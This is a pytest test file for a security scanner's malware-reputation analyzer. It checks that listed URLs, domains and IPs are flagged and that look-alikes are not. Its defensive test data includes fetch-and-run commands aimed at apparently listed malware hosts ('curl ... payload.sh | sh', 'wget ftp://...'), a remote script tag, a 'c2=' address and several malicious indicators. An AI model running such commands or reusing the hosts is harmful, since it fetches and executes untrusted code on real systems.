"""Shift-left web reputation: listed URLs, domains and IPs in files are findings; look-alikes are not."""

from __future__ import annotations

from pathlib import Path

import pytest

from shieldwall.analyze.base import AnalysisInput, FileInfo
from shieldwall.analyze.reputation import ENV_LISTS, ReputationAnalyzer, ReputationScanConfig, reputation_analyzer
from shieldwall.analyze.reputation.lists import ScanListError, load_indicator_list
from shieldwall.model import FindingKind
from shieldwall.service.scan import ScanOptions, scan_target

FIXTURE = Path(__file__).parents[3] / "fixtures" / "reputation" / "urlhaus-mini.txt"

MUST_FLAG = [
    (b"RUN curl -fsSL http://acc.jiangsujiaxue.com/payload.sh | sh", "url", "acc.jiangsujiaxue.com"),
    (b"mirror = cdn.accesspoint.cc", "domain", "accesspoint.cc"),
    (
        b'<script src="https://autoiwc.ru/templates1/js/mixitup.js?v=2"></script>',
        "url",
        "autoiwc.ru/templates1/js/mixitup.js",
    ),
    (b"upstream 1.1.104.120:8080;", "ip", "1.1.104.120"),
    (b"c2=203.0.113.77", "ip", "203.0.113.0/24"),
    (b"wget ftp://1.1.104.12/x", "url", "1.1.104.12"),
    (b"see aktualizacjakonta.com", "domain", "aktualizacjakonta.com"),
]
MUST_NOT_FLAG = [
    b"mirror = myaccesspoint.cc",  # look-alike, not a subdomain
    b"host accesspoint.cc.example.org",  # listed name as a left part only
    b"https://autoiwc.ru/other.js",  # only one URL of that host is listed
    b"upstream 1.1.104.121:8080; 11.1.104.12",  # neighbours and digits around a listed IP
    b"exception.example example.com",  # @@ exceptions and cosmetic filters are not entries
    b"user@accesspoint.cc.invalid",
]


def run(analyzer: ReputationAnalyzer, data: bytes, path: str = "/app/file.txt") -> list[tuple[str, str, str]]:
    result = analyzer.analyze(AnalysisInput(path, FileInfo(path, len(data)), lambda: data))
    out = []
    for f in result.findings:
        details = dict(f.evidence[0].details)
        out.append((details["indicator_kind"], details["list_entry"].replace("[.]", "."), f.rule_id))
    return out


@pytest.fixture
def analyzer() -> ReputationAnalyzer:
    return ReputationAnalyzer(ReputationScanConfig(lists=(FIXTURE,)))


@pytest.mark.parametrize(("data", "kind", "entry"), MUST_FLAG)
def test_must_flag(analyzer: ReputationAnalyzer, data: bytes, kind: str, entry: str) -> None:
    assert run(analyzer, data) == [(kind, entry, "reputation:urlhaus-mini")]


@pytest.mark.parametrize("data", MUST_NOT_FLAG)
def test_must_not_flag(analyzer: ReputationAnalyzer, data: bytes) -> None:
    assert run(analyzer, data) == []


def test_finding_shape(analyzer: ReputationAnalyzer) -> None:
    data = b"line one\nRUN wget http://acc.jiangsujiaxue.com/a\nagain http://acc.jiangsujiaxue.com/a\n"
    result = analyzer.analyze(AnalysisInput("/Dockerfile", FileInfo("/Dockerfile", len(data)), lambda: data))
    assert len(result.findings) == 1  # one finding per indicator and file
    finding = result.findings[0]
    assert finding.kind is FindingKind.MALWARE
    assert finding.location is not None and finding.location.line == 2
    assert "hxxp://acc[.]jiangsujiaxue[.]com/a" in finding.message  # defanged, never clickable
    assert finding.fingerprint_material == "http://acc.jiangsujiaxue.com/a"
    assert result.warnings and "unparsable" in result.warnings[0]  # the fixture's bad line, said once
    again = analyzer.analyze(AnalysisInput("/x", FileInfo("/x", len(data)), lambda: data))
    assert not again.warnings


def test_missing_list_is_a_warning_and_no_list_means_off(tmp_path: Path) -> None:
    broken = ReputationAnalyzer(ReputationScanConfig(lists=(tmp_path / "missing.txt",)))
    result = broken.analyze(AnalysisInput("/a", FileInfo("/a", 3), lambda: b"abc"))
    assert result.warnings and "cannot read" in result.warnings[0]
    off = ReputationAnalyzer(ReputationScanConfig())
    assert not off.required("/a", FileInfo("/a", 10))


def test_version_follows_list_content(tmp_path: Path) -> None:
    lst = tmp_path / "l.txt"
    lst.write_text("evil.example\n")
    first = ReputationAnalyzer(ReputationScanConfig(lists=(lst,))).version
    lst.write_text("evil.example\nworse.example\n")
    assert ReputationAnalyzer(ReputationScanConfig(lists=(lst,))).version != first


def test_list_bounds(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    from shieldwall.analyze.reputation import lists

    big = tmp_path / "big.txt"
    big.write_text("a.example\n" * 100)
    monkeypatch.setattr(lists, "MAX_FILE_BYTES", 50)
    with pytest.raises(ScanListError, match="larger than"):
        load_indicator_list(big)
    monkeypatch.setattr(lists, "MAX_FILE_BYTES", 10_000)
    monkeypatch.setattr(lists, "MAX_ENTRIES", 10)
    with pytest.raises(ScanListError, match="more than"):
        load_indicator_list(big)


def test_whole_directory_scan(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    repo = tmp_path / "repo"
    (repo / "scripts").mkdir(parents=True)
    (repo / "Dockerfile").write_text("FROM debian:12\nRUN curl http://acc.jiangsujiaxue.com/i.sh | sh\n")
    (repo / "scripts" / "clean.sh").write_text("echo https://example.org/\n")
    monkeypatch.setenv(ENV_LISTS, str(FIXTURE))
    assert reputation_analyzer().config.lists == (FIXTURE,)
    result = scan_target(str(repo), ScanOptions(analyzers=("reputation",), use_cache=False))
    hits = [f for f in result.findings if f.rule_id.startswith("reputation:")]
    assert [(f.location.path if f.location else "") for f in hits] == ["/Dockerfile"]


def test_shared_urlhaus_list_loads_and_matches(shared_data: Path) -> None:
    path = shared_data / "reputation" / "urlhaus-filter" / "urlhaus-filter-online.txt"
    listing = load_indicator_list(path)
    assert listing.size > 6000
    assert listing.bad_lines == 0
    assert listing.match_host("x.accesspoint.cc") == "accesspoint.cc"
    assert listing.match_url("autoiwc.ru", "/templates1/js/mixitup.js") is not None
    assert listing.match_ip("1.1.104.12") == "1.1.104.12"
